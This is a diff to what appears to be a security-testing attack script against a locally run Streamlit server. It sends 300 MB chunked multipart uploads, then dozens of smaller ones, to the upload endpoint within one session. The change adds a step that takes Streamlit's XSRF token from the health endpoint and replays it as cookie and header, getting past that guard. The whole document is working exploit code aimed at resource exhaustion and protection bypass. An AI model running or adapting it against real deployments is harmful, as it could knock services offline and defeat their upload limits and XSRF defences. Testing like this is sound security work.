@@ -1,6 +1,7 @@
 """Files of 300 MB that a stranger sends to Streamlit's upload address, in a page's session that a browser opened."""
 
 import asyncio
+import re
 import time
 from collections import Counter
 
@@ -8,7 +9,7 @@ from streamlit.proto.BackMsg_pb2 import BackMsg
 from streamlit.proto.ForwardMsg_pb2 import ForwardMsg
 from websockets.asyncio.client import connect
 
-from scripts.attacks.target import ATTACKER, Target, counted, run
+from scripts.attacks.target import ATTACKER, Target, counted, exchange, run
 
 SIZE, PIECE = 300_000_000, 1_000_000
 FILES = 60
@@ -28,14 +29,21 @@ async def _session(port: int) -> tuple[str, object]:
             return message.new_session.initialize.session_id, socket
 
 
-async def put(port: int, session: str, number: int, size: int) -> tuple[int, int]:
+async def _token(port: int) -> str:
+    """Streamlit's own guard, which it gives to anybody who asks."""
+    _, said = await exchange(port, f"GET /_stcore/health HTTP/1.1\r\nHost: 127.0.0.1:{port}\r\nConnection: close\r\n\r\n".encode())
+    found = re.search(rb"set-cookie: _streamlit_xsrf=([^;\r\n]+)", said, re.IGNORECASE)
+    return found[1].decode() if found else ""
+
+
+async def put(port: int, session: str, token: str, number: int, size: int) -> tuple[int, int]:
     """The status, and the bytes that were sent."""
     reader, writer = await asyncio.open_connection("127.0.0.1", port, local_addr=(ATTACKER, 0))
     head = b'--x\r\nContent-Disposition: form-data; name="file"; filename="a.csv"\r\n\r\n'
     tail = b"\r\n--x--\r\n"
     writer.write(
         f"PUT /_stcore/upload_file/{session}/{number:08}-0000-4000-8000-000000000000 HTTP/1.1\r\nHost: 127.0.0.1:{port}\r\n"
-        f"Content-Type: multipart/form-data; boundary=x\r\nTransfer-Encoding: chunked\r\n\r\n".encode()
+        f"Cookie: _streamlit_xsrf={token}\r\nX-Xsrftoken: {token}\r\nContent-Type: multipart/form-data; boundary=x\r\nTransfer-Encoding: chunked\r\n\r\n".encode()
     )
     answer, sent = asyncio.create_task(reader.read(12)), 0
     try:
@@ -57,15 +65,15 @@ async def put(port: int, session: str, number: int, size: int) -> tuple[int, int
 
 
 async def attack(target: Target, seconds: float) -> str:
-    session, socket = await _session(target.port)
+    (session, socket), token = await _session(target.port), await _token(target.port)
     large, small, until = Counter(), Counter(), time.monotonic() + seconds
     _, taken = 0, 0
     for number in range(2):
-        status, sent = await put(target.port, session, number, SIZE)
+        status, sent = await put(target.port, session, token, number, SIZE)
         large[status], taken = large[status] + 1, max(taken, sent)
     for number in range(FILES):
         if time.monotonic() < until:
-            small[(await put(target.port, session, 100 + number, SMALL))[0]] += 1
+            small[(await put(target.port, session, token, 100 + number, SMALL))[0]] += 1
     await socket.close()
     return f"of {SIZE / 1e6:.0f} MB: {counted(large)} ({taken / 1e6:,.0f} MB taken); files of {SMALL / 1e6:.1f} MB: {counted(small)}"
 
